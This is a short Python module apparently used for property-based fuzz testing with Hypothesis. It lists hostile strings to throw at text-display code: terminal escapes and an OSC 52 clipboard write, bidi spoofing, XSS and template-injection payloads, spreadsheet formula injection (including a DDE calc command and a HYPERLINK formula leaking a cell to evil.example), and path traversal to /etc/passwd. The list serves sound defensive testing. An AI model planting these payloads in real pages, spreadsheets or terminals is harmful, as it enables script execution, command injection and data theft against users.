"""Strings as hostile sites write them: any characters, and the known ways to give orders to what shows them."""

from hypothesis import strategies as st

BARBS = (
    "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[2J\x1b[1;1H",
    "\x9b31m",
    "\x90+q\x9c",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "\u061c\u200f",
    "[link=http://evil.example]x[/link]",
    "[/b]",
    ":bomb:",
    "\r\nforged: line",
    "\n[1/1] หน่วยงานอื่น — พบครบถ้วน 28",
    "\u2028\u2029\x85",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "<!--",
    "]]>",
    "{{7*7}}{% raw %}",
    "&lt;b&gt;&#60;",
    "javascript:alert(1)",
    "data:text/html,<script>",
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1-1",
    "\t=1",
    "＝1",
    '=HYPERLINK("http://evil.example?"&A1)',
    "../../../../etc/passwd",
    "..\\..\\x",
    "/abs",
    "C:\\x",
    "CON",
    "nul.txt",
    "com1",
    "aux ",
    "a:stream",
    "file\x00.html",
    "-rf",
    ".hidden",
    "\ud800",
    "\ufffe",
    "\U000e0041\U000e0042",
    "ก" * 400,
)


def texts():
    """Any text, or barbs with any text between them; half surrogates too, as broken pages give them."""
    some = st.text(alphabet=st.characters(), max_size=30)
    return some | st.lists(st.sampled_from(BARBS) | some, max_size=4).map("".join)
